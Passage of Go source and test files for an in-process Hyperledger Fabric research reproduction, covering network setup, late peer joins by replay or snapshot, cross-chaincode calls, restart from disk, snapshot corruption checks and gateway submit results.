		t.Fatalf("height %d != anchor %d", joined.Ledger().Height(), anchor.Ledger().Height())
	}
	if v, _, _ := joined.WorldState().Get("asset", "a"); string(v) != "1" {
		t.Fatalf("replayed state a = %q", v)
	}
	if _, _, ok := joined.WorldState().Get("asset", "b"); ok {
		t.Fatal("invalid tx applied during replay")
	}
	// As an org2 (member) peer it recovers the private value via
	// gossip reconciliation during replay, or at minimum the hash.
	if _, _, ok := joined.PvtStore().GetPrivateHash("asset", "pdc1", "k1"); !ok {
		t.Fatal("joined peer lacks private data hash")
	}

	// The joined peer participates in new transactions immediately.
	res, err := submitTx(cl, n.Peers(), "asset", "set", []string{"c", "3"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("post-join tx = %v", res.Code)
	}
	if v, _, _ := joined.WorldState().Get("asset", "c"); string(v) != "3" {
		t.Fatalf("joined peer missed live block: c = %q", v)
	}

	if _, err := n.JoinPeer("ghost-org", "peer0.ghost", nil); err == nil {
		t.Fatal("join into unknown org succeeded")
	}
}
