package network

import (
	"strings"
	"testing"

	"repro/internal/chaincode"
	"repro/internal/ledger"
)

// TestCrossChaincodeInvocation deploys two chaincodes where "frontend"
// delegates to "backend", and checks the callee's writes land in its own
// namespace and are committed atomically with the caller's.
func TestCrossChaincodeInvocation(t *testing.T) {
	n, err := New(Options{Orgs: []string{"org1", "org2", "org3"}, Seed: 91})
	if err != nil {
		t.Fatal(err)
	}

	backend := chaincode.Router{
		"record": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if err := stub.PutState("log~"+args[0], []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse([]byte("recorded"))
		},
	}
	frontend := chaincode.Router{
		"setAndLog": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if err := stub.PutState(args[0], []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			resp, err := stub.InvokeChaincode("backend", "record", args)
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if resp.Status != ledger.StatusOK {
				return chaincode.ErrorResponse("backend: " + resp.Message)
			}
			return chaincode.SuccessResponse(resp.Payload)
		},
		"callGhost": func(stub chaincode.Stub) ledger.Response {
			if _, err := stub.InvokeChaincode("ghost", "f", nil); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
	}
	if err := n.DeployChaincode(&chaincode.Definition{Name: "backend", Version: "1.0"}, backend); err != nil {
		t.Fatal(err)
	}
	if err := n.DeployChaincode(&chaincode.Definition{Name: "frontend", Version: "1.0"}, frontend); err != nil {
		t.Fatal(err)
	}

	cl := n.Gateway("org1")
	res, err := submitTx(cl, n.Peers(), "frontend", "setAndLog", []string{"k", "v"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid || string(res.Payload) != "recorded" {
		t.Fatalf("res = %+v", res)
	}

	// Both namespaces committed on every peer.
	for _, p := range n.Peers() {
		if v, _, _ := p.WorldState().Get("frontend", "k"); string(v) != "v" {
			t.Errorf("%s: frontend ns = %q", p.Name(), v)
		}
		if v, _, _ := p.WorldState().Get("backend", "log~k"); string(v) != "v" {
			t.Errorf("%s: backend ns = %q", p.Name(), v)
		}
	}

	// The transaction's rwset carries both namespaces.
	tx, _, err := n.Peer("org2").Ledger().Transaction(res.TxID)
	if err != nil {
		t.Fatal(err)
	}
	prp, _ := tx.ResponsePayloadParsed()
	set, _ := prp.RWSet()
	if len(set.NsRWSets) != 2 {
		t.Fatalf("namespaces in rwset = %d, want 2", len(set.NsRWSets))
	}

	// Calling an uninstalled chaincode surfaces an error.
	_, err = submitTx(cl, n.Peers(), "frontend", "callGhost", nil, nil)
	if err == nil || !strings.Contains(err.Error(), "unavailable") {
		t.Fatalf("ghost call: %v", err)
	}
}
