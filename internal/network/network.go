// Package network assembles complete Fabric networks: organizations with
// CAs, peers, clients, a Raft ordering service and a gossip fabric, wired
// together in-process. It is the reproduction's equivalent of the
// fabric-samples "test network" the paper builds its prototypes on
// (§V: "We build prototype systems following the test-network guideline").
package network

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"sync"
	"time"

	"repro/internal/chaincode"
	"repro/internal/channel"
	"repro/internal/core"
	"repro/internal/deliver"
	"repro/internal/gateway"
	"repro/internal/gossip"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/orderer"
	"repro/internal/peer"
	"repro/internal/service"
)

// Options configures a network build.
type Options struct {
	// ChannelName defaults to "c1".
	ChannelName string
	// Orgs are the organization names; each contributes PeersPerOrg
	// peers ("peer<i>.<org>") and one client ("client0.<org>").
	Orgs []string
	// PeersPerOrg is how many peers each organization runs (default 1).
	PeersPerOrg int
	// DefaultEndorsement overrides the channel default policy rule
	// (default "MAJORITY Endorsement").
	DefaultEndorsement string
	// OrdererCount sizes the Raft cluster (default 3).
	OrdererCount int
	// BatchSize is the orderer block-cut threshold (default 1).
	BatchSize int
	// BatchTimeout cuts a partial batch after this long, like Fabric's
	// BatchTimeout (0 = no timer; commit waiters' targeted flushes and
	// the block-size threshold cut the batches).
	BatchTimeout time.Duration
	// Security selects the active defense features for every node.
	Security core.SecurityConfig
	// Seed drives deterministic Raft jitter.
	Seed int64
	// CAs, when set, supplies pre-existing organization CAs instead of
	// creating fresh ones — used by the consortium package so the same
	// organizations can join multiple channels with one identity root.
	CAs map[string]*identity.CA
}

// Network is a running in-process Fabric network.
type Network struct {
	Channel *channel.Config
	Orderer *orderer.Service
	Gossip  *gossip.Network

	cas      map[string]*identity.CA
	peers    map[string]*peer.Peer       // "peer0.org1" -> peer
	gateways map[string]*gateway.Gateway // org -> gateway
	orgs     []string
	sec      core.SecurityConfig
}

// New builds and starts a network per the options.
func New(opts Options) (*Network, error) {
	if len(opts.Orgs) == 0 {
		return nil, fmt.Errorf("network: no organizations")
	}
	name := opts.ChannelName
	if name == "" {
		name = "c1"
	}

	n := &Network{
		cas:      make(map[string]*identity.CA),
		peers:    make(map[string]*peer.Peer),
		gateways: make(map[string]*gateway.Gateway),
		orgs:     append([]string(nil), opts.Orgs...),
		sec:      opts.Security,
	}
	sort.Strings(n.orgs)

	var orgCfgs []channel.OrgConfig
	for _, org := range n.orgs {
		ca := opts.CAs[org]
		if ca == nil {
			var err error
			ca, err = identity.NewCA(org)
			if err != nil {
				return nil, fmt.Errorf("network: %w", err)
			}
		}
		n.cas[org] = ca
		orgCfgs = append(orgCfgs, channel.OrgConfig{Name: org, CAPub: ca.PublicKey()})
	}
	n.Channel = channel.NewConfig(name, orgCfgs...)
	if opts.DefaultEndorsement != "" {
		n.Channel.DefaultEndorsement = opts.DefaultEndorsement
	}

	n.Gossip = gossip.NewNetwork()
	n.Orderer = orderer.New(orderer.Config{
		OrdererCount: opts.OrdererCount,
		BatchSize:    opts.BatchSize,
		BatchTimeout: opts.BatchTimeout,
		Seed:         opts.Seed,
	})

	peersPerOrg := opts.PeersPerOrg
	if peersPerOrg <= 0 {
		peersPerOrg = 1
	}
	verifier := n.Channel.Verifier()

	// First pass: bring up every peer of every organization, so the
	// clients and gateways created afterwards can span organizations
	// (cross-org endorsement sets and commit streams).
	anchors := make(map[string]*peer.Peer, len(n.orgs))
	for _, org := range n.orgs {
		for i := 0; i < peersPerOrg; i++ {
			peerID, err := n.cas[org].Issue(fmt.Sprintf("peer%d.%s", i, org), identity.RolePeer)
			if err != nil {
				return nil, fmt.Errorf("network: %w", err)
			}
			p, err := peer.New(peer.Config{
				Identity: peerID,
				Channel:  n.Channel,
				Gossip:   n.Gossip,
				Security: opts.Security,
			})
			if err != nil {
				return nil, fmt.Errorf("network: %w", err)
			}
			n.peers[p.Name()] = p
			n.Orderer.RegisterDelivery(func(b *ledger.Block) { _ = p.CommitBlock(b) })
			if anchors[org] == nil {
				anchors[org] = p
			}
		}
	}

	// Second pass: one client identity per organization, connected
	// through a Gateway whose default endorsement set is every peer in
	// the network and whose commit stream comes from the org's own
	// anchor peer.
	for _, org := range n.orgs {
		clientID, err := n.cas[org].Issue("client0."+org, identity.RoleClient)
		if err != nil {
			return nil, fmt.Errorf("network: %w", err)
		}
		n.gateways[org] = gateway.Connect(clientID, gateway.Options{
			Verifier:   verifier,
			Orderer:    n.Orderer,
			Security:   opts.Security,
			CommitPeer: anchors[org],
		}, service.AsPeers(n.Peers())...)
	}
	return n, nil
}

// JoinPeer adds a new peer of an existing organization to a running
// network: it issues an identity, lets setup approve chaincode
// definitions and install implementations, then replays every block cut
// so far and subscribes to future deliveries — a late join with state
// catch-up, as Fabric peers do through the deliver service.
func (n *Network) JoinPeer(org, name string, setup func(*peer.Peer) error) (*peer.Peer, error) {
	ca := n.cas[org]
	if ca == nil {
		return nil, fmt.Errorf("network: unknown org %q", org)
	}
	peerID, err := ca.Issue(name, identity.RolePeer)
	if err != nil {
		return nil, fmt.Errorf("network: join peer: %w", err)
	}
	p, err := peer.New(peer.Config{
		Identity: peerID,
		Channel:  n.Channel,
		Gossip:   n.Gossip,
		Security: n.sec,
	})
	if err != nil {
		return nil, fmt.Errorf("network: join peer: %w", err)
	}
	if setup != nil {
		if err := setup(p); err != nil {
			return nil, fmt.Errorf("network: join peer setup: %w", err)
		}
	}
	// Queue live deliveries that race the catch-up replay, so the peer
	// commits blocks strictly in order.
	var mu sync.Mutex
	caughtUp := false
	var queued []*ledger.Block
	backlog, _ := n.Orderer.Subscribe(func(b *ledger.Block) {
		mu.Lock()
		defer mu.Unlock()
		if !caughtUp {
			queued = append(queued, b)
			return
		}
		_ = p.CommitBlock(b)
	})
	mu.Lock()
	defer mu.Unlock()
	for _, b := range append(backlog, queued...) {
		if err := p.CommitBlock(b); err != nil {
			return nil, fmt.Errorf("network: join peer catch-up: %w", err)
		}
	}
	caughtUp = true
	n.peers[p.Name()] = p
	// Every org gateway learns the new peer: it joins their default
	// endorsement sets and becomes resolvable by name.
	for _, g := range n.gateways {
		g.AddPeer(p)
	}
	return p, nil
}

// JoinPeerFromSnapshot adds a new peer that bootstraps from a snapshot
// artifact instead of replaying the chain from genesis: the verified
// artifact is installed (world state, tombstones, purge schedule,
// missing records, chain base), then only blocks from the snapshot
// height onward flow through the validator — an O(state) join instead
// of O(chain). The residual catch-up comes from the orderer's retained
// window; when that window has been compacted past the snapshot height,
// the gap is replayed from the source peer's delivery service first.
// The source should be a peer with the same collection memberships as
// the joiner (snapshots carry the exporter's private namespaces).
func (n *Network) JoinPeerFromSnapshot(org, name, dir string, source *peer.Peer, setup func(*peer.Peer) error) (*peer.Peer, error) {
	ca := n.cas[org]
	if ca == nil {
		return nil, fmt.Errorf("network: unknown org %q", org)
	}
	peerID, err := ca.Issue(name, identity.RolePeer)
	if err != nil {
		return nil, fmt.Errorf("network: join peer: %w", err)
	}
	p, err := peer.New(peer.Config{
		Identity: peerID,
		Channel:  n.Channel,
		Gossip:   n.Gossip,
		Security: n.sec,
	})
	if err != nil {
		return nil, fmt.Errorf("network: join peer: %w", err)
	}
	if setup != nil {
		if err := setup(p); err != nil {
			return nil, fmt.Errorf("network: join peer setup: %w", err)
		}
	}
	if err := p.InstallSnapshot(dir); err != nil {
		return nil, fmt.Errorf("network: join peer: %w", err)
	}

	// Queue live deliveries that race the catch-up, exactly as JoinPeer.
	var mu sync.Mutex
	caughtUp := false
	var queued []*ledger.Block
	handler := func(b *ledger.Block) {
		mu.Lock()
		defer mu.Unlock()
		if !caughtUp {
			queued = append(queued, b)
			return
		}
		_ = p.CommitBlock(b)
	}

	backlog, _, err := n.Orderer.SubscribeFrom(p.Ledger().Height(), handler)
	for attempt := 0; errors.Is(err, orderer.ErrCompacted) && source != nil && attempt < 3; attempt++ {
		// The orderer compacted past the snapshot height: pull the gap
		// from the source peer's delivery service (replayed block
		// events), then retry the live subscription.
		if cerr := catchUpFromPeer(p, source, n.Orderer.FirstBlock()); cerr != nil {
			return nil, fmt.Errorf("network: join peer catch-up from %s: %w", source.Name(), cerr)
		}
		backlog, _, err = n.Orderer.SubscribeFrom(p.Ledger().Height(), handler)
	}
	if err != nil {
		return nil, fmt.Errorf("network: join peer: %w", err)
	}
	mu.Lock()
	defer mu.Unlock()
	for _, b := range append(backlog, queued...) {
		if err := p.CommitBlock(b); err != nil {
			return nil, fmt.Errorf("network: join peer catch-up: %w", err)
		}
	}
	caughtUp = true
	n.peers[p.Name()] = p
	for _, g := range n.gateways {
		g.AddPeer(p)
	}
	return p, nil
}

// catchUpFromPeer replays committed blocks [p's height, target) from
// the source peer's delivery stream into p's validator.
func catchUpFromPeer(p, source *peer.Peer, target uint64) error {
	from := p.Ledger().Height()
	if from >= target {
		return nil
	}
	sub, err := source.Deliver().Subscribe(from)
	if err != nil {
		return err
	}
	defer sub.Close()
	for p.Ledger().Height() < target {
		ev, err := sub.Recv(context.Background())
		if err != nil {
			return err
		}
		be, ok := ev.(*deliver.BlockEvent)
		if !ok {
			continue
		}
		if err := p.CommitBlock(be.Block); err != nil {
			return err
		}
	}
	return nil
}

// Peer returns the organization's anchor peer, "peer0.<org>".
func (n *Network) Peer(org string) *peer.Peer {
	return n.peers["peer0."+org]
}

// PeerNamed returns a peer by full node name, e.g. "peer1.org2".
func (n *Network) PeerNamed(name string) *peer.Peer {
	return n.peers[name]
}

// OrgPeers returns all peers of one organization, sorted by name.
func (n *Network) OrgPeers(org string) []*peer.Peer {
	var out []*peer.Peer
	for _, p := range n.Peers() {
		if p.Org() == org {
			out = append(out, p)
		}
	}
	return out
}

// Gateway returns the organization's gateway connection: the Gateway-style
// client API over the same "client0.<org>" identity, endorsing through
// every peer by default and watching the org's anchor peer for commit
// status.
func (n *Network) Gateway(org string) *gateway.Gateway {
	return n.gateways[org]
}

// Peers returns all peers sorted by name.
func (n *Network) Peers() []*peer.Peer {
	names := make([]string, 0, len(n.peers))
	for name := range n.peers {
		names = append(names, name)
	}
	sort.Strings(names)
	out := make([]*peer.Peer, len(names))
	for i, name := range names {
		out[i] = n.peers[name]
	}
	return out
}

// Orgs returns the sorted organization names.
func (n *Network) Orgs() []string { return append([]string(nil), n.orgs...) }

// CA returns an organization's certificate authority, for issuing extra
// identities in tests and attack harnesses.
func (n *Network) CA(org string) *identity.CA { return n.cas[org] }

// DeployChaincode approves the definition on every peer and installs the
// given implementation on every peer (the honest, uniform deployment).
// Use Peer(org).InstallChaincode to override individual peers with
// customized — or malicious — variants afterwards.
func (n *Network) DeployChaincode(def *chaincode.Definition, impl chaincode.Chaincode) error {
	for _, p := range n.peers {
		if err := p.ApproveDefinition(def); err != nil {
			return err
		}
		p.InstallChaincode(def.Name, impl)
	}
	return nil
}

// SetSecurity swaps the security configuration on every node.
func (n *Network) SetSecurity(sec core.SecurityConfig) {
	n.sec = sec
	for _, p := range n.peers {
		p.SetSecurity(sec)
	}
	for _, g := range n.gateways {
		g.SetSecurity(sec)
	}
}

// Security returns the network's current security configuration.
func (n *Network) Security() core.SecurityConfig { return n.sec }

// Close releases every org gateway's commit-status subscription and
// every peer's storage backend. Networks built without a StorageBackend
// hold no storage resources, but gateway subscriptions are still freed.
func (n *Network) Close() error {
	for _, g := range n.gateways {
		g.Close()
	}
	var first error
	for _, p := range n.Peers() {
		if err := p.Close(); err != nil && first == nil {
			first = err
		}
	}
	return first
}
