package network

import (
	"testing"

	"repro/internal/core"
	"repro/internal/ledger"
	"repro/internal/peer"
)

// TestPeerRestartFromDisk runs transactions against a durable peer,
// drops it, recreates it over the same directory and checks the replayed
// state — world state, private data hashes and blockchain — matches.
func TestPeerRestartFromDisk(t *testing.T) {
	n := newTestNet(t)
	dir := t.TempDir()

	// A durable org2 peer joins (via manual construction to control
	// the persist dir), approving definitions and installing chaincode
	// like the network's own org2 peer.
	mkPeer := func() *peer.Peer {
		id, err := n.CA("org2").Issue("peer7.org2", "peer")
		if err != nil {
			t.Fatal(err)
		}
		p, err := peer.NewPersistent(peer.Config{
			Identity:   id,
			Channel:    n.Channel,
			Gossip:     n.Gossip,
			Security:   core.OriginalFabric(),
			PersistDir: dir,
		})
		if err != nil {
			t.Fatal(err)
		}
		if err := p.ApproveDefinition(n.Peer("org2").Definition("asset")); err != nil {
			t.Fatal(err)
		}
		return p
	}

	durable := mkPeer()
	n.Orderer.RegisterDelivery(func(b *ledger.Block) { _ = durable.CommitBlock(b) })

	cl := n.Gateway("org1")
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"a", "1"}, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "setPrivate", []string{"k1", "12"}, nil); err != nil {
		t.Fatal(err)
	}
	if durable.Ledger().Height() != 2 {
		t.Fatalf("durable height = %d", durable.Ledger().Height())
	}

	// "Restart": a brand-new peer object over the same directory.
	restarted := mkPeer()
	if err := restarted.Restore(); err != nil {
		t.Fatal(err)
	}
	if restarted.Ledger().Height() != 2 {
		t.Fatalf("restored height = %d", restarted.Ledger().Height())
	}
	if v, ver, _ := restarted.WorldState().Get("asset", "a"); string(v) != "1" || ver != 1 {
		t.Fatalf("restored public state = %q v%d", v, ver)
	}
	// The hashed private entry is rebuilt; the original came from the
	// replayed transient/gossip path or is tracked missing.
	if _, ver, ok := restarted.PvtStore().GetPrivateHash("asset", "pdc1", "k1"); !ok || ver != 1 {
		t.Fatalf("restored private hash: ok=%v ver=%d", ok, ver)
	}
	if restarted.Ledger().VerifyChain() != -1 {
		t.Fatal("restored chain broken")
	}
}
