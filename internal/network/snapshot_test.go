package network

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"repro/internal/chaincode"
	"repro/internal/peer"
	"repro/internal/pvtdata"
	"repro/internal/snapshot"
	"repro/internal/storage"
)

// newSnapshotNet is newTestNet with BlockToLive on the collection, so
// commits leave a pending purge schedule for snapshots to carry.
func newSnapshotNet(t *testing.T) *Network {
	t.Helper()
	n, err := New(Options{
		Orgs: []string{"org1", "org2", "org3"},
		Seed: 43,
	})
	if err != nil {
		t.Fatalf("build network: %v", err)
	}
	def := &chaincode.Definition{
		Name:    "asset",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:         "pdc1",
			MemberPolicy: "OR(org1.member, org2.member)",
			MaxPeerCount: 3,
			BlockToLive:  1000, // schedules far-future purges
		}},
	}
	if err := n.DeployChaincode(def, testPDCImpl()); err != nil {
		t.Fatalf("deploy: %v", err)
	}
	return n
}

// org2Setup approves the asset definition and installs the org2
// chaincode variant on a joining peer.
func org2Setup(n *Network) func(*peer.Peer) error {
	return func(p *peer.Peer) error {
		if err := p.ApproveDefinition(n.Peer("org2").Definition("asset")); err != nil {
			return err
		}
		p.InstallChaincode("asset", testPDCImpl())
		return nil
	}
}

// buildHistory commits a mix of public writes, private writes, and
// deletes, leaving live keys, tombstones and a pending purge schedule.
// The private delete is optional: a deleted private payload is gone
// network-wide, so a peer later replaying from genesis can never heal
// it — tests that compare a replay-joined peer byte-for-byte must
// delete privately only while every peer is live.
func buildHistory(t *testing.T, n *Network, withPrivateDelete bool) {
	t.Helper()
	cl := n.Gateway("org1")
	members := []*peer.Peer{n.Peer("org1"), n.Peer("org2")}
	steps := []struct {
		endorsers []*peer.Peer
		fn        string
		args      []string
	}{
		{n.Peers(), "set", []string{"a", "1"}},
		{n.Peers(), "set", []string{"b", "2"}},
		{members, "setPrivate", []string{"k1", "12"}},
		{members, "setPrivate", []string{"k2", "13"}},
		{n.Peers(), "del", []string{"b"}},
		{n.Peers(), "set", []string{"c", "3"}},
	}
	if withPrivateDelete {
		steps = append(steps, struct {
			endorsers []*peer.Peer
			fn        string
			args      []string
		}{members, "delPrivate", []string{"k1", "12"}})
	}
	for _, s := range steps {
		if _, err := submitTx(cl, s.endorsers, "asset", s.fn, s.args, nil); err != nil {
			t.Fatalf("%s%v: %v", s.fn, s.args, err)
		}
	}
}

func TestSnapshotJoinMatchesReplayJoin(t *testing.T) {
	n := newSnapshotNet(t)
	buildHistory(t, n, false)
	source := n.Peer("org2")

	dir := filepath.Join(t.TempDir(), "snap")
	m, err := source.ExportSnapshot(dir)
	if err != nil {
		t.Fatal(err)
	}
	if m.Height != source.Ledger().Height() {
		t.Fatalf("manifest height %d, source height %d", m.Height, source.Ledger().Height())
	}
	if m.Counts.Purges == 0 {
		t.Fatal("no purge schedule in the snapshot despite BlockToLive")
	}
	if m.Counts.Tombstones == 0 {
		t.Fatal("no tombstones in the snapshot despite deletes")
	}

	// One peer joins the classic way (genesis replay), one via the
	// snapshot.
	replayJoined, err := n.JoinPeer("org2", "peer8.org2", org2Setup(n))
	if err != nil {
		t.Fatal(err)
	}
	snapJoined, err := n.JoinPeerFromSnapshot("org2", "peer9.org2", dir, source, org2Setup(n))
	if err != nil {
		t.Fatal(err)
	}
	if got := snapJoined.Ledger().Base(); got != m.Height {
		t.Fatalf("snapshot-joined peer chain base = %d, want %d", got, m.Height)
	}

	// Both joiners stay live: a post-join public write commits
	// everywhere, and a live private delete lands a tombstone on top of
	// the snapshot-installed value at the snapshot-joined peer.
	if _, err := submitTx(n.Gateway("org1"), n.Peers(), "asset", "set", []string{"d", "4"}, nil); err != nil {
		t.Fatal(err)
	}
	members := []*peer.Peer{n.Peer("org1"), snapJoined}
	if _, err := submitTx(n.Gateway("org1"), members, "asset", "delPrivate", []string{"k1", "12"}, nil); err != nil {
		t.Fatal(err)
	}

	reconcileAll(t, source)
	reconcileAll(t, replayJoined)
	reconcileAll(t, snapJoined)
	if got := len(snapJoined.Validator().Missing()); got != 0 {
		t.Fatalf("snapshot-joined peer has %d missing entries, want 0", got)
	}

	want := source.WorldState().StateHash()
	if got := snapJoined.WorldState().StateHash(); !bytes.Equal(got, want) {
		t.Fatalf("snapshot-joined state hash differs from source:\n got %x\nwant %x", got, want)
	}
	if got := replayJoined.WorldState().StateHash(); !bytes.Equal(got, want) {
		t.Fatalf("replay-joined state hash differs from source:\n got %x\nwant %x", got, want)
	}
	if got, want := snapJoined.Ledger().Height(), source.Ledger().Height(); got != want {
		t.Fatalf("snapshot-joined height = %d, want %d", got, want)
	}
	if snapJoined.Ledger().VerifyChain() != -1 {
		t.Fatal("snapshot-joined chain fails verification")
	}

	// Private store contents came across: both the live key and the
	// purge schedule.
	if v, _, ok := snapJoined.PvtStore().GetPrivate("asset", "pdc1", "k2"); !ok || string(v) != "13" {
		t.Fatalf("private k2 at snapshot-joined peer = %q, %v", v, ok)
	}
	if _, _, ok := snapJoined.PvtStore().GetPrivate("asset", "pdc1", "k1"); ok {
		t.Fatal("deleted private k1 resurrected by snapshot install")
	}
	if got, want := snapJoined.PvtStore().PendingPurges(), source.PvtStore().PendingPurges(); !reflect.DeepEqual(got, want) {
		t.Fatalf("purge schedule mismatch:\n got %+v\nwant %+v", got, want)
	}
}

// TestInstallCorruptSnapshotRetries covers the integrity contract: a
// truncated chunk, a bit-flipped chunk, and a tampered manifest must
// each fail InstallSnapshot with storage.ErrCorrupt while leaving both
// the peer and the artifact directory untouched — undoing the
// corruption makes the same install succeed on the same peer object.
func TestInstallCorruptSnapshotRetries(t *testing.T) {
	n := newSnapshotNet(t)
	buildHistory(t, n, true)
	source := n.Peer("org2")
	dir := filepath.Join(t.TempDir(), "snap")
	m, err := source.ExportSnapshot(dir)
	if err != nil {
		t.Fatal(err)
	}
	chunks, err := filepath.Glob(filepath.Join(dir, "chunk-*.snap"))
	if err != nil || len(chunks) == 0 {
		t.Fatalf("no chunks: %v", err)
	}

	corruptions := []struct {
		name string
		file string
		mut  func([]byte) []byte
	}{
		{"truncated chunk", chunks[0], func(b []byte) []byte { return b[:len(b)-5] }},
		{"bit-flipped chunk", chunks[0], func(b []byte) []byte { b[len(b)/2] ^= 0x01; return b }},
		{"tampered manifest", filepath.Join(dir, snapshot.ManifestName), func(b []byte) []byte {
			// Editing the recorded height breaks the manifest self-hash.
			return bytes.Replace(b,
				[]byte(fmt.Sprintf(`"height": %d`, m.Height)),
				[]byte(fmt.Sprintf(`"height": %d`, m.Height+1)), 1)
		}},
	}
	for i, c := range corruptions {
		t.Run(c.name, func(t *testing.T) {
			id, err := n.CA("org2").Issue(fmt.Sprintf("peer-corrupt%d.org2", i), "peer")
			if err != nil {
				t.Fatal(err)
			}
			p, err := peer.New(peer.Config{Identity: id, Channel: n.Channel, Gossip: n.Gossip})
			if err != nil {
				t.Fatal(err)
			}
			if err := org2Setup(n)(p); err != nil {
				t.Fatal(err)
			}

			orig, err := os.ReadFile(c.file)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(c.file, c.mut(append([]byte(nil), orig...)), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := p.InstallSnapshot(dir); !errors.Is(err, storage.ErrCorrupt) {
				t.Fatalf("install of corrupted artifact: err = %v, want storage.ErrCorrupt", err)
			}
			if h := p.Ledger().Height(); h != 0 {
				t.Fatalf("failed install mutated the peer (height %d)", h)
			}

			// Undo the corruption (the artifact dir was never mutated by
			// the failed install) and retry on the SAME peer object.
			if err := os.WriteFile(c.file, orig, 0o644); err != nil {
				t.Fatal(err)
			}
			if err := p.InstallSnapshot(dir); err != nil {
				t.Fatalf("retry after undoing corruption: %v", err)
			}
		})
	}
}

// TestKillMidInstallRecovery models a crash in the install window
// between the durable chain-base install and the snapshot's state
// batch: Restore over the half-installed backend must refuse with
// storage.ErrCorrupt (the gap cannot be replayed — the peer never had
// those blocks), and repeating the install over a fresh backend, then
// restarting over it, reproduces the exporter's state byte for byte.
// The durable sibling of this test is TestCrashMidCommitRecovery.
func TestKillMidInstallRecovery(t *testing.T) {
	n := newSnapshotNet(t)
	buildHistory(t, n, true)
	source := n.Peer("org2")
	dir := filepath.Join(t.TempDir(), "snap")
	m, err := source.ExportSnapshot(dir)
	if err != nil {
		t.Fatal(err)
	}
	lastHash, err := m.LastBlockHashBytes()
	if err != nil {
		t.Fatal(err)
	}

	mkPeer := func(name string, backend storage.Backend) *peer.Peer {
		id, err := n.CA("org2").Issue(name, "peer")
		if err != nil {
			t.Fatal(err)
		}
		p, err := peer.New(peer.Config{Identity: id, Channel: n.Channel, Gossip: n.Gossip, Backend: backend})
		if err != nil {
			t.Fatal(err)
		}
		if err := org2Setup(n)(p); err != nil {
			t.Fatal(err)
		}
		return p
	}

	// Simulate the crash: the chain base landed durably, the state batch
	// did not (the install's two durable steps, torn between).
	halfInstalled := storage.NewMemory()
	if err := halfInstalled.Blocks().(storage.BaseBlockStore).InstallBase(m.Height, lastHash); err != nil {
		t.Fatal(err)
	}
	p := mkPeer("peer-killed.org2", halfInstalled)
	if err := p.Restore(); !errors.Is(err, storage.ErrCorrupt) {
		t.Fatalf("restore over half-installed backend: err = %v, want storage.ErrCorrupt", err)
	}

	// Recovery procedure: wipe and re-install. The artifact directory is
	// untouched, so the same files drive the retry.
	backend := storage.NewMemory()
	installed := mkPeer("peer-retry.org2", backend)
	if err := installed.InstallSnapshot(dir); err != nil {
		t.Fatalf("re-install after wipe: %v", err)
	}
	want := installed.WorldState().StateHash()

	// Restart over the installed backend: state, purge schedule and
	// chain base all come back.
	reopened := mkPeer("peer-retry.org2", backend)
	if err := reopened.Restore(); err != nil {
		t.Fatalf("restore after snapshot install: %v", err)
	}
	if got := reopened.WorldState().StateHash(); !bytes.Equal(got, want) {
		t.Fatalf("restored state hash differs:\n got %x\nwant %x", got, want)
	}
	if got := reopened.Ledger().Base(); got != m.Height {
		t.Fatalf("restored chain base = %d, want %d", got, m.Height)
	}
	if got, want := reopened.PvtStore().PendingPurges(), source.PvtStore().PendingPurges(); !reflect.DeepEqual(got, want) {
		t.Fatalf("restored purge schedule mismatch:\n got %+v\nwant %+v", got, want)
	}
}
