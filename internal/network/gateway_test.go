package network

import (
	"context"
	"errors"
	"strings"
	"testing"

	"repro/internal/gateway"
	"repro/internal/ledger"
	"repro/internal/service"
)

// TestGatewaySubmitReportsFinalCode drives the full Gateway flow: Submit
// must return the transaction's final validation code as recorded by the
// commit peer, received over the deliver stream (no ledger polling).
func TestGatewaySubmitReportsFinalCode(t *testing.T) {
	n := newTestNet(t)
	contract := n.Gateway("org1").Network("c1").Contract("asset")

	res, err := contract.Submit(context.Background(), "set", gateway.WithArguments("k1", "hello"))
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("code = %v", res.Code)
	}
	if res.BlockNum != 0 {
		t.Fatalf("block = %d", res.BlockNum)
	}
	if res.CommitWait <= 0 {
		t.Fatalf("commit wait = %v", res.CommitWait)
	}
	for _, p := range n.Peers() {
		if p.Ledger().Height() != 1 {
			t.Fatalf("%s height = %d", p.Name(), p.Ledger().Height())
		}
	}
}

// TestGatewaySubmitReportsPolicyFailure: a minority endorsement commits
// as ENDORSEMENT_POLICY_FAILURE; the code and its detail come back in the
// Result, not as an error.
func TestGatewaySubmitReportsPolicyFailure(t *testing.T) {
	n := newTestNet(t)
	contract := n.Gateway("org1").Network("c1").Contract("asset")

	res, err := contract.Submit(context.Background(), "set",
		gateway.WithArguments("k1", "v"),
		gateway.WithEndorsers(n.Peer("org1")))
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if res.Code != ledger.EndorsementPolicyFailure {
		t.Fatalf("code = %v", res.Code)
	}
	if res.Detail == "" {
		t.Fatal("no detail for policy failure")
	}
}

// TestGatewayEvaluateDoesNotGrowLedger: Evaluate queries a single peer
// without ordering — no transaction, no block.
func TestGatewayEvaluateDoesNotGrowLedger(t *testing.T) {
	n := newTestNet(t)
	contract := n.Gateway("org1").Network("c1").Contract("asset")

	if _, err := contract.Submit(context.Background(), "set", gateway.WithArguments("k1", "42")); err != nil {
		t.Fatal(err)
	}
